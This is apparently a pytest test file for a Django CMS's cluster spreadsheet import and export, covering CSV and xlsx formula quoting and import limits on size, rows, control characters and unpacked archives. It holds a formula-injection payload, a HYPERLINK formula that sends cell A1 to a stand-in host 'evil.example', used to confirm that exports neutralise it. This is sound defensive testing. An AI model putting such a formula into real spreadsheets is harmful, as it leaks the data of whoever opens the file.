"""Cluster spreadsheets that could harm or stall: formulas in exports are written as text,
and imports stop at their limits (cell and file size, rows, NUL and control characters,
archives that unpack too large), each refusal naming the row and column. Out of
``test_importing.py``."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command

from cms.clusters.exporting import export_rows, write_csv, write_xlsx
from cms.clusters.importing import apply_import, preview_import
from cms.clusters.models import ClusterProfile
from cms.clusters.reading import read_table
from cms.clusters.spreadsheet import ImportFileError
from tests.clusters.test_importing import GOOD, HEADER, csv_file

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def cluster_with_formulas() -> ClusterProfile:
    cluster = ClusterProfile.objects.filter(country__code="CZ").first()
    cluster.name_en, cluster.city_en, cluster.phone = FORMULA, "@SUM(1)", "+420 475 123 456"
    cluster.region_en = "'=quoted by its editor"
    cluster.save()
    return cluster


def exported_cells(cluster, writer) -> dict:
    """The cluster's row of an export written by ``writer``, read back raw (no import)."""
    from openpyxl import load_workbook

    content = writer(export_rows(ClusterProfile.objects.filter(pk=cluster.pk)))
    if writer is write_csv:
        header, row = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return dict(zip(header, row, strict=True))
    header, row = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    return {name.value: cell for name, cell in zip(header, row, strict=True)}


def test_the_xlsx_export_writes_formula_text_as_quoted_text(db):
    cells = exported_cells(cluster_with_formulas(), write_xlsx)
    for column in ("name_en", "city_en", "phone", "region_en"):
        assert cells[column].data_type == "s", column  # a string, not "f" (formula)
        assert cells[column].value.startswith("'"), column
    assert cells["name_en"].value == "'" + FORMULA
    assert cells["region_en"].value == "''=quoted by its editor"


def test_the_csv_export_quotes_formula_text(db):
    cells = exported_cells(cluster_with_formulas(), write_csv)
    assert cells["name_en"] == "'" + FORMULA
    assert (cells["city_en"], cells["phone"]) == ("'@SUM(1)", "'+420 475 123 456")
    assert cells["members"] == "" or cells["members"].isdigit()  # numbers are numbers


@pytest.mark.parametrize(("writer", "name"), [(write_csv, "c.csv"), (write_xlsx, "c.xlsx")])
def test_quoted_cells_round_trip_without_changes_or_extra_quotes(db, writer, name):
    cluster = cluster_with_formulas()
    for _round in range(2):  # a quote taken off on import, so no quote piles up
        content = writer(export_rows(ClusterProfile.objects.filter(pk=cluster.pk)))
        result = preview_import(read_table(content, name))
        assert result.counts()["unchanged"] == 1
        apply_import(result)
    cluster.refresh_from_db()
    assert (cluster.name_en, cluster.region_en) == (FORMULA, "'=quoted by its editor")


LINE = "brno-bio,CZ,food,Brno Bio Cluster,Brněnský bio klastr,{description},Jídlo,12,2009,"


@pytest.mark.parametrize("length", [40_000, 200_000])  # over the limit; over csv's own limit
def test_a_huge_cell_is_an_error_naming_row_and_column(db, length):
    content = csv_file(GOOD[1], LINE.format(description="x" * length))
    with pytest.raises(ImportFileError, match="row 3, column description_en: longer than 32767"):
        read_table(content, "huge.csv")


def test_a_huge_cell_in_an_xlsx_is_an_error_naming_row_and_column(db):
    """openpyxl cuts what it writes at Excel's limit, so the long cell is put in by hand."""
    table = [HEADER.split(","), LINE.format(description="PLACEHOLDER").split(",")]
    packed, unpacked = io.BytesIO(write_xlsx(table)), io.BytesIO()
    with zipfile.ZipFile(packed) as source, zipfile.ZipFile(unpacked, "w") as target:
        for part in source.infolist():
            data = source.read(part).replace(b"PLACEHOLDER", b"x" * 40_000)
            target.writestr(part, data)
    with pytest.raises(ImportFileError, match="row 2, column description_en: longer than"):
        read_table(unpacked.getvalue(), "huge.xlsx")


def test_a_nul_byte_is_an_error_naming_row_and_column(db):
    content = csv_file(GOOD[1], LINE.format(description="Food").replace("Jídlo", "Jí\x00dlo"))
    with pytest.raises(ImportFileError, match="nul.csv: row 3, column description_cs: .*NUL"):
        read_table(content, "nul.csv")


class CountingStream:
    """A file that makes its rows up as it is read and counts the bytes it gave out."""

    def __init__(self, rows: int, row: str = "c{},CZ,food,Cluster {},,,,,,\n"):
        self.lines = (row.format(n, n).encode() for n in range(rows))
        self.pending, self.served = (HEADER + "\n").encode(), 0

    def read(self, size: int = -1) -> bytes:
        while len(self.pending) < size and (line := next(self.lines, None)):
            self.pending += line
        chunk, self.pending = self.pending[:size], self.pending[size:]
        self.served += len(chunk)
        return chunk


def test_reading_stops_at_the_first_row_past_the_limit(db):
    from cms.clusters.spreadsheet import MAX_ROWS

    stream = CountingStream(rows=MAX_ROWS * 10)
    with pytest.raises(ImportFileError, match=f"more than {MAX_ROWS} rows"):
        read_table(stream, "many.csv")
    row_bytes = len("c00000,CZ,food,Cluster 00000,,,,,,\n")
    assert stream.served < (MAX_ROWS + 1) * row_bytes + 64 * 1024  # not the 10× larger rest


def test_a_stream_without_a_size_stops_at_the_byte_limit(db):
    from cms.clusters.spreadsheet import MAX_BYTES

    row = "c{},CZ,food,Cluster {},,," + "d" * 1000 + ",,,\n"  # 1 KB rows: bytes run out first
    stream = CountingStream(rows=MAX_BYTES // 500, row=row)
    with pytest.raises(ImportFileError, match="larger than 10 MB"):
        read_table(stream, "long.csv")
    assert stream.served <= MAX_BYTES + 64 * 1024


class Unreadable(io.RawIOBase):
    """A file that claims its size and must not be read."""

    size = 10 * 1024 * 1024 + 1

    def read(self, size=-1):
        raise AssertionError("a file over the limit was read")


@pytest.mark.parametrize("name", ["big.csv", "big.xlsx"])
def test_a_file_over_the_byte_limit_is_refused_by_its_size_unread(db, name):
    with pytest.raises(ImportFileError, match="larger than 10 MB"):
        read_table(Unreadable(), name)


def test_an_xlsx_that_unpacks_too_large_is_refused(db, monkeypatch):
    from cms.clusters import reading

    content = write_xlsx(export_rows(ClusterProfile.objects.all()))
    monkeypatch.setattr(reading, "MAX_XLSX_EXPANDED", len(content))  # a zip packs it smaller
    with pytest.raises(ImportFileError, match="unpacks to more than"):
        read_table(content, "bomb.xlsx")


def test_the_command_exits_with_the_row_and_column_of_a_bad_cell(db, tmp_path):
    from django.core.management.base import CommandError

    path = tmp_path / "nul.csv"
    path.write_bytes(csv_file(LINE.format(description="Fo\x00od")))
    with pytest.raises(CommandError, match="nul.csv: row 2, column description_en"):
        call_command("import_clusters", str(path), stdout=io.StringIO())
    big = tmp_path / "big.csv"
    big.write_bytes(csv_file(*GOOD) + b" " * (10 * 1024 * 1024))
    with pytest.raises(CommandError, match="larger than 10 MB"):
        call_command("import_clusters", str(big), stdout=io.StringIO())


def test_a_control_character_an_xlsx_cannot_hold_is_an_error_naming_row_and_column(db):
    content = csv_file(LINE.format(description="Food").replace("Jídlo", "Jí\x0bdlo"))
    with pytest.raises(ImportFileError, match="row 2, column description_cs: .*U\\+000B"):
        read_table(content, "vt.csv")


def test_the_xlsx_export_leaves_out_control_characters_instead_of_failing(db):
    cluster = ClusterProfile.objects.filter(country__code="CZ").first()
    cluster.name_en = "Brno\x0b Bio"  # typed in the admin, which lets it through
    cluster.save()
    assert exported_cells(cluster, write_xlsx)["name_en"].value == "Brno Bio"


def test_the_export_command_writes_no_live_formula(db, tmp_path):
    cluster = cluster_with_formulas()
    call_command("export_clusters", str(tmp_path / "out.csv"), country=["CZ"], stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig"))))
    (row,) = [row for row in rows if row["slug"] == cluster.slug]
    assert (row["name_en"], row["phone"]) == ("'" + FORMULA, "'+420 475 123 456")


@pytest.mark.parametrize(
    ("cell", "exported_at"),
    [
        ("2026-01-31T12:00:00Z", "2026-01-31 12:00:00+00:00"),  # as exported
        ("2026-01-31 13:00:00+01:00", "2026-01-31 12:00:00+00:00"),
        ("2026-01-31 12:00", "2026-01-31 12:00:00+00:00"),  # a spreadsheet's re-save: UTC
    ],
)
def test_the_updated_at_column_is_read_not_written(db, cell, exported_at):
    rows = [{"slug": "x", "country": "CZ", "name_en": "X", "updated_at": cell}]
    (row,) = preview_import(rows).rows
    assert row.ok and str(row.exported_at) == exported_at
    assert "updated_at" not in row.values


def test_an_unreadable_updated_at_is_an_error_naming_the_column(db):
    rows = [{"slug": "x", "country": "CZ", "name_en": "X", "updated_at": "31.01.2026 12:00"}]
    (row,) = preview_import(rows).rows
    assert row.errors == [
        (
            "updated_at",
            "“31.01.2026 12:00” is not a time as the export writes it (2026-01-31T12:00:00Z); "
            "leave the column as exported, or delete it",
        )
    ]
